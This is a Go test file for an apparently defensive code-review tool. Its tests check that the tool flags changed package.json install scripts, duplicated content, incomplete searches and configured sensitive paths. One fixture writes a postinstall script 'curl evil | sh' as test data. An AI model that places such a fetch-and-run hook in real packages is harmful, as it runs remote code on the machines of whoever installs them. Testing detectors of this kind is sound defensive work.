package diff_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/org/foreman-action/internal/scoring/evidence"
)

// TestInstallScripts changes package.json files. They are sensitive if scripts change that run on
// installation, or if a file cannot be parsed.
func TestInstallScripts(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	const manifest = `{"scripts": {"test": "a", "postinstall": "b"}}`
	for i := range 5 {
		r.write(r.upstream, fmt.Sprintf("%d/package.json", i), manifest)
	}
	r.commit(r.upstream)
	r.checkout()
	for i, text := range []string{
		strings.Replace(manifest, `"a"`, `"changed"`, 1), strings.Replace(manifest, `"b"`, `"curl evil | sh"`, 1), `{"scripts": {"prepare": "b"}}`, `{"scripts": {`, `{}`,
	} {
		r.write(r.dir(), fmt.Sprintf("%d/package.json", i), text)
	}
	r.write(r.dir(), "new/package.json", `{"name": "new"}`)
	r.write(r.dir(), "hook/Package.json", manifest)
	d := r.diff()
	want := []string{"1/package.json", "2/package.json", "3/package.json", "4/package.json", "hook/Package.json"}
	if len(d.ChangedFiles) != 7 || !slices.Equal(d.RiskFlags.SensitiveFiles, want) {
		t.Errorf("got %q, want %q", d.RiskFlags.SensitiveFiles, want)
	}
}

// TestCommonLines adds a line that occurs so often in the repository that the search ends early.
// It also adds consecutive lines that exist in another file.
func TestCommonLines(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	const idiom = "return the error to the caller of it\n"
	r.write(r.upstream, "z-common.txt", strings.Repeat(idiom, 200_000))
	r.write(r.upstream, "a-guide.md", "# Guide\n\nfirst step of the guide\n\nsecond step of the guide\nthird step of the guide\n")
	r.commit(r.upstream)
	r.checkout()
	r.write(r.dir(), "new.md", idiom+"text that is new in here\nfirst step of the guide\nsecond step of the guide\n\nthird step of the guide\n")
	risks := r.diff().RiskFlags
	got := risks.DuplicateContent
	if !strings.HasPrefix(risks.DuplicateSearchIncomplete, "the search stopped after 5s") {
		t.Errorf("got %q", risks.DuplicateSearchIncomplete)
	}
	if len(got) != 1 || got[0].Confidence != evidence.High || got[0].ExistingLocation != "HEAD:a-guide.md:3:first step of the guide" {
		t.Errorf("got %+v", got)
	}
}

// TestSearchLimits makes changes for which the search for duplicates is incomplete. The document
// contains the reason.
func TestSearchLimits(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("a license that every file begins with ", 25)
	lines := func(n int, format string) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, format+"\n", i)
		}
		return b.String()
	}
	tests := map[string]struct {
		upstream func(r *rig)
		added    string
		want     string // empty: the search is complete
	}{
		"complete": {func(r *rig) { r.write(r.upstream, "a", lines(9, long+"%d")) }, long + "\n", ""},
		"much output": {func(r *rig) {
			for i := range 600 {
				r.write(r.upstream, fmt.Sprintf("license/%d", i), lines(9, long+"%d"))
			}
		}, long + "\n", "the search stopped after 4 MB of matches"},
		"one file":   {func(r *rig) { r.write(r.upstream, "a", lines(11, "the same line of text, number %d")) }, "the same line of text\n", "in 1 file(s) only the first 10 matches were examined"},
		"many lines": {func(*rig) {}, lines(120, "a line that is new here, number %d"), "only 48 of 120 added lines were searched for"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t)
			tt.upstream(r)
			r.commit(r.upstream)
			r.checkout()
			r.write(r.dir(), "new.md", tt.added)
			d := r.diff()
			var warnings []string
			if tt.want != "" {
				warnings = []string{"the search for content that the repository has already is incomplete: " + tt.want}
			}
			if d.RiskFlags.DuplicateSearchIncomplete != tt.want || !slices.Equal(d.Warnings, warnings) {
				t.Errorf("got %q, %q", d.RiskFlags.DuplicateSearchIncomplete, d.Warnings)
			}
		})
	}
}

// TestSensitivePaths adds globs by the configuration.
func TestSensitivePaths(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	r.session.Config.SensitivePaths = []string{"billing/", "*.sql"}
	r.checkout()
	for _, name := range []string{"billing/a/b.go", "db/x.sql", "other/billing.go"} {
		r.write(r.dir(), name, "x\n")
	}
	if got, want := r.diff().RiskFlags.SensitiveFiles, []string{"billing/a/b.go", "db/x.sql"}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}
